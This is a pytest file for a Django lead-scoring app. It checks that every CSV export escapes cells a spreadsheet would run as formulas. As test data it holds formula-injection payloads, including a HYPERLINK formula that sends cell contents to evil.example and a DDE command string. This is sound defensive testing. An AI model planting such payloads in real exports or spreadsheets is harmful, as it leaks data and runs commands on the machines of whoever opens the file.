"""Every CSV the app writes neutralises cells a spreadsheet would run as a
formula: names of events and accounts come from clients."""

import csv
import io
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from leads.models import Account, Event, LeadStatus, StatusChange
from scoring.definitions import create_definition
from scoring.lab import runs
from scoring.lab.tables import lab_tables
from scoring.metrics.tables import csv_text, spreadsheet_safe
from scoring.models import LabRun
from scoring.rescoring import rescore_all

pytestmark = pytest.mark.django_db

EVIL_EVENT = '=HYPERLINK("http://evil.example/?"&A2,"x")'
EVIL_NAMES = ["=cmd|' /C calc'!A0", "+SUM(1)", "-2+3", "@SUM(A1)", "\tTabbed", "\rReturned"]


@pytest.mark.parametrize("text", [EVIL_EVENT, *EVIL_NAMES])
def test_text_that_starts_like_a_formula_gets_a_leading_quote(text):
    assert spreadsheet_safe(text) == "'" + text
    (row,) = list(csv.reader(io.StringIO(csv_text(["h"], [[text]]))))[1:]
    assert row == ["'" + text]


@pytest.mark.parametrize("value", ["Harbor Legal", "a=b", "", 12, -5, 1.5, True])
def test_other_cells_are_written_as_they_are(value):
    assert spreadsheet_safe(value) == value


def test_none_is_an_empty_cell():
    assert csv_text(["a", "b"], [[None, 1]]).splitlines() == ["a,b", ",1"]


@pytest.fixture
def evil_book():
    """Accounts named like formulas, converted after doing an event named like one."""
    signup = timezone.now() - timedelta(days=60)
    create_definition(
        name="Hand raisers", is_active=True, score_threshold=100,
        criteria=[dict(label="Asked for sales", role="trigger", event_name="contact_sales_clicked",
                       operator="gte", value="1")],
    )
    draft = create_definition(
        name="Evil", score_threshold=100,
        criteria=[dict(label="@Did it", role="trigger", event_name=EVIL_EVENT, operator="gte", value="1")],
    )
    for index, name in enumerate(EVIL_NAMES):
        account = Account.objects.create(name=name, signed_up_at=signup, plan="trial", employee_count=10,
                                         status=LeadStatus.CONVERTED if index % 2 else LeadStatus.DISQUALIFIED)
        Event.objects.create(account=account, name=EVIL_EVENT, occurred_at=signup + timedelta(days=1))
        StatusChange.objects.create(account=account, from_status="contacted", to_status=account.status,
                                    changed_at=signup + timedelta(days=10), cause="user")
    rescore_all()
    return draft


def test_the_lab_csv_files_neutralise_event_and_account_names(evil_book, client, manager):
    result = runs.compute(evil_book)
    LabRun.objects.create(definition=evil_book, status=LabRun.Status.DONE, result=result,
                          requested_at=timezone.now(), finished_at=timezone.now())
    client.force_login(manager)
    cells = {}
    for table in lab_tables(result):
        response = client.get(reverse("lab-csv", args=[evil_book.pk, table]))
        assert response.status_code == 200
        cells[table] = [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]
    assert any(cell.startswith("'" + EVIL_EVENT) for cell in cells["events"])
    assert {"'" + name for name in EVIL_NAMES} <= set(cells["newly"])
    for table, values in cells.items():
        assert not [cell for cell in values if cell.startswith(("=", "+", "@", "\t", "\r"))], table
        assert not [cell for cell in values if cell.startswith("-") and not is_number(cell)], table


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
